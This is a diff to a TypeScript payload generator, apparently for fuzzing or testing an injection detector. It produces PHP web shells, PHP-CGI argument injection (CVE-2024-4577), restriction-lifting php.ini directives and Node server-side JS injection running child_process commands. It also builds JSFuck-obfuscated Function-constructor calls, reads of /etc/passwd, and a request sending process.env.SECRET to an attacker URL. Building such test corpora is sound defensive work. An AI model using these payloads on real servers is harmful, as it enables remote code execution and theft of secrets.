@@ -28,7 +28,7 @@ function phpCall(random: Random): string {
     `\${'_'.'GET'}[${pick(["'a'", '0'], random)}](\${'_'.'GET'}[${pick(["'b'", '1'], random)}])`,
     `file_put_contents('${pick(['x.php', 'shell.php', '../s.php', '/var/www/html/.a.php'], random)}',${pick(["'<?php system($_GET[c]);'", `file_get_contents('${attackerUrl(random)}')`], random)})`,
     `include('${attackerUrl(random)}')`,
-    'phpinfo()',
+    pick(['phpinfo()', 'phpinfo(-1)', 'phpinfo(INFO_ALL)', 'phpinfo(1)', 'php_uname()', 'getenv("PATH")'], random),
     `$_=[];$_=@"$_";$_=$_['!'=='@'];`,
   ], random);
 }
@@ -45,12 +45,17 @@ function phpInjection(random: Random): string {
       return `${pick(['', 'x', '1', '";', "';"], random)}${call};${maybe(random, 0.3, '//')}`;
     case 4:
       return pick([
-        `-d allow_url_include=1 -d auto_prepend_file=php://input`,
-        `-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input`,
+        // PHP-CGI argument injection (CVE-2012-1823 / CVE-2024-4577): -d flags drawn, sometimes encoded.
+        (() => {
+          const flags = [`allow_url_include=${pick(['1', 'On', 'true'], random)}`, `auto_prepend_file=${pick(['php://input', `${attackerUrl(random)}x.txt`, '/proc/self/environ'], random)}`, ...(random() < 0.5 ? [pick(['safe_mode=Off', 'disable_functions=""', 'open_basedir=none', 'cgi.force_redirect=0', 'suhosin.simulation=On'], random)] : [])].map((f) => `${pick(['-d', '%ADd', '-d'], random)} ${f}`).join(' ');
+          return random() < 0.3 ? flags.replace(/ /g, '+').replace(/=/g, '%3d') : `${flags}${maybe(random, 0.3, ' -n')}`;
+        })(),
         `allow_url_include=On\nauto_prepend_file=${attackerUrl(random)}x.txt`,
         `auto_append_file=data://text/plain;base64,${base64(`<?php ${call};?>`)}`,
-        `disable_functions=&open_basedir=/`,
-        `-d safe_mode=Off -d suhosin.simulation=On -d disable_functions="" -d open_basedir=none -d auto_prepend_file=php://input -n`,
+        // php.ini directives in input (a .user.ini upload, PHP-CGI -d, a settings form): drawn and joined.
+        // At least one directive that lifts a restriction or runs a file, then maybe others.
+        [...new Set([pick(['disable_functions=', 'open_basedir=none', 'allow_url_include=On', `auto_prepend_file=${pick(['php://input', '/proc/self/environ', 'data://text/plain,<?php phpinfo();?>'], random)}`, `auto_append_file=${pick(['php://input', '/tmp/sess_x'], random)}`], random), ...Array.from({ length: int(random, 1, 2) }, () => pick(['disable_functions=', 'open_basedir=/', 'allow_url_include=On', 'allow_url_fopen=1', 'safe_mode=Off', 'short_open_tag=On', 'display_errors=1'], random))])].join(pick(['&', '\n', ' ', ';'], random)),
+
       ], random);
     case 5:
       return `<script language="php">${call};</script>`;
@@ -62,6 +67,29 @@ function phpInjection(random: Random): string {
         `<?php if(isset($_REQUEST['${pick(['cmd', 'c', 'x'], random)}'])){echo "<pre>";${pick(PHP_EXEC, random)}($_REQUEST['${pick(['cmd', 'c'], random)}']);} ?>`,
       ], random);
   }
+}
+
+/** A number in non-alphanumeric JS: `+[]`, `+!+[]`, `!+[]+!+[]`... */
+function jsfuckNumber(n: number, random: Random): string {
+  if (n === 0) return pick(['+[]', '+![]'], random);
+  if (n === 1) return pick(['+!+[]', '+!![]'], random);
+  return Array.from({ length: n }, () => '!+[]').join('+');
+}
+
+/** Where non-alphanumeric JS finds each letter: in the strings of false, true, undefined and [object Object]. */
+const JSFUCK_SOURCES: readonly (readonly [string, string])[] = [['(![]+[])', 'false'], ['(!![]+[])', 'true'], ['([][[]]+[])', 'undefined'], ['([]+{})', '[object Object]']];
+
+/** `word` spelled in non-alphanumeric JS, each letter from one of the strings that hold it (some left as a quoted letter). */
+function jsfuckString(word: string, random: Random): string {
+  return [...word]
+    .map((ch) => {
+      const sources = JSFUCK_SOURCES.filter(([, text]) => text.includes(ch));
+      if (sources.length === 0 || random() < 0.15) return `"${ch}"`;
+      const [expr, text] = pick(sources, random);
+      const positions = [...text].flatMap((c, i) => (c === ch ? [i] : []));
+      return `${expr}[${jsfuckNumber(pick(positions, random), random)}]`;
+    })
+    .join('+');
 }
 
 function nodeSsjs(random: Random): string {
@@ -78,10 +106,17 @@ function nodeSsjs(random: Random): string {
     case 2:
       return `${pick(['this', '[]', '""', '({})', 'x'], random)}.constructor.constructor(${pick([`'return process'`, '"return this.process"', "'return global.process.mainModule'"], random)})()${pick([".mainModule.require('child_process').execSync('" + cmd + "')", '.exit()', ".env"], random)}`;
     case 3:
-      return `${pick(['eval', 'Function', 'setTimeout', 'setInterval'], random)}\`${pick([`require('child_process').execSync('${cmd}')`, 'process.exit()', 'while(1){}'], random)}\``;
+      return `${pick(['eval', 'Function', 'setTimeout', 'setInterval'], random)}\`${pick([`require('child_process').execSync('${cmd}')`, `process.${pick(['exit', 'abort', 'kill'], random)}(${pick(['', '1', 'process.pid'], random)})`, pick(['while(1){}', 'for(;;){}', 'while(!0);', 'do{}while(1)', 'while(true){}'], random)], random)}\``;
     case 4:
       return `res.${pick(['end', 'send', 'write'], random)}(require('fs').${pick(['readFileSync', 'readdirSync'], random)}('${pick(['/etc/passwd', '.', '/proc/self/environ', '../.env'], random)}')${maybe(random, 0.5, '.toString()')})`;
     case 5:
+      if (random() < 0.85) {
+        // The Function constructor reached through an array method's constructor, names spelled in
+        // non-alphanumeric JS: `[]["filter"]["constructor"]("return process")()`.
+        const method = pick(['filter', 'fill', 'sort', 'at', 'concat', 'entries'], random);
+        const body = pick(['return process', 'return this', 'return global', `return process.mainModule.require('child_process').execSync('${cmd}')`, 'while(1){}'], random);
+        return `[][${jsfuckString(method, random)}][${jsfuckString('constructor', random)}](${random() < 0.5 ? `"${body}"` : jsfuckString(body.slice(0, 6), random) + `+"${body.slice(6)}"`})()${pick(['', '', '.exit()', '.env'], random)}`;
+      }
       return pick([
         '[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]]()',
         '$=~[];$={___:++$,$$$$:(![]+"")[$],__$:++$,$_$_:(![]+"")[$],_$_:++$};$.$_=($.$_=$+"")[$.$_$]',
@@ -90,7 +125,7 @@ function nodeSsjs(random: Random): string {
         '_=[]["constructor"]["constructor"],_("return this")()',
       ], random);
     case 6:
-      return `${pick(['', '1;', "';", '");'], random)}${pick(['var d=new Date();do{var c=new Date();}while(c-d<' + int(random, 2, 9) * 1000 + ')', 'while(true){}', 'process.kill(process.pid)', `require('http').get('${attackerUrl(random)}?'+process.env.SECRET)`], random)}${maybe(random, 0.5, '//')}`;
+      return `${pick(['', '1;', "';", '");'], random)}${pick(['var d=new Date();do{var c=new Date();}while(c-d<' + int(random, 2, 9) * 1000 + ')', pick(['while(true){}', 'for(;;){}', 'while(1);'], random), `process.${pick(['kill(process.pid)', 'exit()', 'abort()'], random)}`, `require('http').get('${attackerUrl(random)}?'+process.env.SECRET)`], random)}${maybe(random, 0.5, '//')}`;
     default:
       return `{{${pick(['constructor.constructor', "range.constructor"], random)}("return process.mainModule.require('child_process').execSync('${cmd}')")()}}`;
   }
